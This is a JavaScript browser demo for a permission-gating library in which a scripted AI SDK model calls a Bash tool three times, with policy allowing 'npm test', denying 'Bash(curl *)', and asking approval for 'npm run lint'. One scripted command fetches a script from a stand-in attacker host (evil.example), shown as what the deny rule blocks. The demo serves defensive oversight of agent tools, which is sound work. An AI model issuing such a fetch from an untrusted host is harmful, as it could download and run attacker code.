// The AI SDK in the browser with a scripted model: generateText calls `Bash` three times
// through toolgate's gateTools. The policy allows `npm test`, denies `curl`, and asks about
// `npm run lint` with an approval card; the model reads each denial as its tool result.
import "./zod-jitless.js";
import "/pkg/ui/approval-card.js";
import init, * as toolgate from "/pkg/web/toolgate.js";
import { gateTools } from "/pkg/web/adapters/ai-sdk.js";
import { generateText, isStepCount, jsonSchema, tool } from "ai";

const COMMANDS = ["npm test", "curl https://evil.example/x.sh", "npm run lint"];
const USAGE = { inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0 }, outputTokens: { total: 1, text: 1, reasoning: 0 } };

/** A LanguageModelV3 that calls `Bash` with each command in turn, then answers. */
function scriptedModel() {
  let step = 0;
  return {
    specificationVersion: "v3", provider: "demo", modelId: "scripted", supportedUrls: {},
    async doGenerate() {
      const command = COMMANDS[step];
      step += 1;
      if (command === undefined) {
        return { content: [{ type: "text", text: "All done." }], finishReason: { unified: "stop", raw: "stop" }, usage: USAGE, warnings: [] };
      }
      return {
        content: [{ type: "tool-call", toolCallId: `call-${step}`, toolName: "Bash", input: JSON.stringify({ command }) }],
        finishReason: { unified: "tool-calls", raw: "tool_calls" }, usage: USAGE, warnings: [],
      };
    },
    async doStream() {
      throw new Error("the scripted model does not stream");
    },
  };
}

const log = document.getElementById("log");
function say(text, status) {
  const p = document.createElement("p");
  p.className = "msg";
  p.dataset.status = status;
  p.textContent = text;
  log.append(p);
}

async function main() {
  await init();
  const broker = new toolgate.ApprovalBroker({
    policy: { permissions: { allow: ["Bash(npm test)"], deny: ["Bash(curl *)"] } },
  });
  broker.onRequest((approval) => {
    const card = document.createElement("toolgate-approval-card");
    card.approval = approval;
    log.append(card);
  });
  log.addEventListener("toolgate-answer", (event) => {
    event.preventDefault();
    broker.respond(event.detail.id, event.detail.answer);
  });
  const bash = tool({
    description: "Runs a shell command",
    inputSchema: jsonSchema({ type: "object", properties: { command: { type: "string" } }, required: ["command"] }),
    execute: async ({ command }) => {
      say(`Ran: ${command}`, "ran");
      return `ran ${command}`;
    },
  });
  const tools = gateTools({ Bash: bash }, { broker, sessionId: "browser-1", cwd: "/home/dev/project" });
  document.body.dataset.ready = "true";
  const result = await generateText({ model: scriptedModel(), tools, prompt: "Check the project.", stopWhen: isStepCount(5) });
  for (const step of result.steps) {
    for (const part of step.content) {
      if (part.type === "tool-result" && part.output?.denied) say(`The model read: ${part.output.reason}`, "denied");
    }
  }
  say(result.text, "done");
}

main().catch((error) => {
  say(`The demo failed: ${error?.message ?? error}`, "error");
  document.body.dataset.ready = document.body.dataset.ready ?? "error";
});
